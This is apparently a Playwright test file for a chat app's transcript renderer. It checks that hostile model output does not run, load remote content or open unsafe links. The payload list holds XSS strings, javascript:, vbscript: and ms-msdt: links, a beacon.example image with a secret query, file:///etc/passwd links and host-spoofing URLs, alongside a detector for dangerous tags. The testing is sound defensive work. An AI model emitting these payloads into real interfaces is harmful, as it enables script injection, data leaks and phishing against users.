// What a hostile model may write: nothing of it runs, loads, or opens anything but plain https and mailto links.
import type { Page } from '@playwright/test'
import { composer, items, send, turnEnds } from '../support/acts'
import { catchLinks, opened } from '../support/deck'
import { say } from '../support/responses-server'
import { expect, sharedStage, test } from '../support/stage'

const stage = sharedStage()

const beacon = 'https://beacon.example'
const payloads = [
  '<script>window.pwned = 1</script>',
  '<img src=x onerror="window.pwned = 1">',
  `<iframe src="${beacon}/frame"></iframe><object data="${beacon}/o"></object><embed src="${beacon}/e">`,
  `<svg onload="window.pwned = 1"><script>window.pwned = 1</script><image href="${beacon}/svg.png"/></svg>`,
  `<style>@import url(${beacon}/style.css); body { background: url(${beacon}/bg.png) }</style>`,
  `<link rel="stylesheet" href="${beacon}/l.css"><meta http-equiv="refresh" content="0;url=${beacon}"><base href="${beacon}/">`,
  `<form action="${beacon}"><button>go</button></form><video src="${beacon}/v.mp4" autoplay></video>`,
  `<a href="javascript:window.pwned=1" onclick="window.pwned=1">raw</a><div style="position:fixed;inset:0">cover</div>`,
  `![remote](${beacon}/pixel.png?secret=1) ![svg](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+PC9zdmc+)`,
  `![ref][image]\n\n[image]: ${beacon}/ref.png`,
  '[js](javascript:window.pwned=1) [js2](JaVaScRiPt:window.pwned=1) [js3](java&#x0A;script:window.pwned=1)',
  '[html](data:text/html,<script>window.pwned=1</script>) [vb](vbscript:x) [file](file:///etc/passwd)',
  '[blob](blob:https://x.example/1) [app](app://deck/index.html) [ssh](ssh://x.example) [ms](ms-msdt:/id)',
  '[user](https://good.example@evil.example/) [pass](https://a:b@evil.example/) [plain](http://plain.example/)',
  '[mail](mailto:me@mail.example?attach=/etc/passwd&subject=x)',
  'https://good.example@auto.example/ http://auto.example/ www.auto.example javascript:window.pwned=1',
  '[ok](https://fine.example/page?a=1#b) <https://angle.example/> [post](mailto:you@mail.example)',
  '[https://good.example](https://evil.example/looks-good)',
  '[a](<https://space.example/a b>) [tab](<https://tab.example/\u2028x>) [bidi](https://bidi.example/\u202egnp.exe)',
]

/** Addresses that a press must follow: the honest ones, and the real target of the one that shows another host. */
const honest = [
  'https://fine.example/page?a=1#b',
  'https://angle.example/',
  'https://evil.example/looks-good',
  'mailto:you@mail.example',
  // A remote image becomes a link that says where it goes; only a press follows it.
  `${beacon}/pixel.png?secret=1`,
  `${beacon}/ref.png`,
]

/** Whether a link that went out is a plain https one, without a user name, or a mail without attachments. */
function isPlain(link: string): boolean {
  const { protocol, username, password, hostname, searchParams } = new URL(link)
  if (protocol === 'mailto:') return [...searchParams.keys()].every((name) => name === 'subject')
  // What is odd in it went out encoded, so that it can't be read as another host.
  return (
    protocol === 'https:' &&
    username === '' &&
    password === '' &&
    /^[a-z.]+\.example$/.test(hostname) &&
    /^[\x21-\x7e]+$/.test(link)
  )
}

const dangers = (page: Page) =>
  page.getByTestId('transcript').evaluate((transcript) => {
    const found: string[] = []
    for (const element of transcript.querySelectorAll('*')) {
      const tag = element.tagName.toLowerCase()
      if (
        /^(script|iframe|frame|object|embed|style|link|meta|base|form|video|audio|source|image|foreignobject)$/.test(
          tag,
        )
      )
        found.push(tag)
      for (const { name, value } of element.attributes) {
        if (/^on/i.test(name)) found.push(`${tag} ${name}`)
        if (
          /^(href|src|action|srcset|xlink:href)$/.test(name) &&
          !/^(https:\/\/|mailto:|data:image\/(png|jpeg|gif|webp);)/.test(value)
        )
          found.push(`${tag} ${name}=${value}`)
        if (name === 'src' && /^https?:/.test(value)) found.push(`${tag} loads ${value}`)
        if (name === 'style' && /url\(|position\s*:\s*fixed/.test(value)) found.push(`${tag} style=${value}`)
      }
    }
    return found
  })

test('nothing of it becomes an element that runs or loads, and no request leaves', async () => {
  const { page, model } = stage()
  const asked: string[] = []
  page.on('request', (request) => asked.push(request.url()))
  // Whole at once, and in pieces that cut tags and links in two, as a stream does.
  const whole = payloads.join('\n\n')
  model.queue(say(whole), say(...(whole.match(/[\s\S]{1,7}/g) ?? [])))
  for (const words of ['at once', 'in pieces']) {
    await send(page, words)
    await expect(items(page, 'agentMessage').last()).toContainText('bidi')
    await turnEnds(page, 'completed')
    expect(await dangers(page)).toEqual([])
  }
  await expect(page.getByTestId('turn')).toHaveCount(2)
  expect(await page.evaluate(() => Reflect.get(window, 'pwned'))).toBeUndefined()
  // The look for dangers sees one when there is one.
  await page.getByTestId('transcript').evaluate((element) => {
    const planted = document.createElement('a')
    planted.href = 'javascript:void 0'
    element.append(planted)
  })
  expect(await dangers(page)).toEqual(['a href=javascript:void 0'])
  await page.getByTestId('transcript').evaluate((element) => element.lastElementChild?.remove())
  expect(asked.filter((url) => !/^(app:\/\/deck\/|data:|blob:)/.test(url))).toEqual([])
  expect(await page.evaluate(() => getComputedStyle(document.body).backgroundImage)).toBe('none')
})

test('pressing every link opens only what the policy allows, and never leaves the page', async () => {
  const { app, page, model } = stage()
  await catchLinks(app)
  model.queue(say(payloads.join('\n\n')))
  await send(page, 'links')
  await turnEnds(page, 'completed')
  const before = page.url()
  const links = items(page, 'agentMessage').last().locator('a')
  const count = await links.count()
  expect(count).toBeGreaterThan(3)
  for (let at = 0; at < count; at += 1) {
    await links.nth(at).click()
    await links.nth(at).click({ button: 'middle' })
    await links.nth(at).click({ modifiers: ['ControlOrMeta'] })
  }
  await expect.poll(() => opened(app)).toEqual(expect.arrayContaining(honest))
  expect((await opened(app)).filter((url) => !isPlain(url))).toEqual([])
  expect(page.url()).toBe(before)
  expect(app.windows()).toHaveLength(1)
})

test('a link that shows another host than its own says where it goes', async () => {
  const { page, model } = stage()
  model.queue(
    say('[https://good.example](https://evil.example/looks-good) and [user](https://good.example@evil.example/)'),
  )
  await send(page, 'deceive me')
  await turnEnds(page, 'completed')
  await expect(items(page, 'agentMessage').last()).toContainText('https://good.example (evil.example)')
  await expect(items(page, 'agentMessage').last().getByRole('link')).toHaveCount(1)
})

for (const [name, text] of [
  ['ten thousand nested quotes', `${'>'.repeat(10_000)} deep`],
  ['ten thousand open brackets', `${'['.repeat(10_000)} deep`],
  ['a thousand nested lists', `${Array.from({ length: 1000 }, (_, at) => `${' '.repeat(at * 2)}- x`).join('\n')} deep`],
  ['a table of sixty thousand cells', `| a | b | c |\n| - | - | - |\n${'| 1 | 2 | 3 |\n'.repeat(20_000)}\ndeep`],
  ['a line of a million letters', `${'a'.repeat(1_000_000)} deep`],
] as const) {
  test(`${name} leave the window usable`, async () => {
    const { page, model } = stage()
    model.queue(say(text), say('still here'))
    await send(page, name)
    await turnEnds(page, 'completed', 15_000)
    await composer(page).fill('typing goes on')
    const started = performance.now()
    await composer(page).press('End')
    await composer(page).press('!')
    await expect(composer(page)).toHaveValue('typing goes on!')
    expect(performance.now() - started, 'ms for two keys').toBeLessThan(2000)
    await composer(page).press('Enter')
    await expect(items(page, 'agentMessage').last()).toContainText('still here')
  })
}
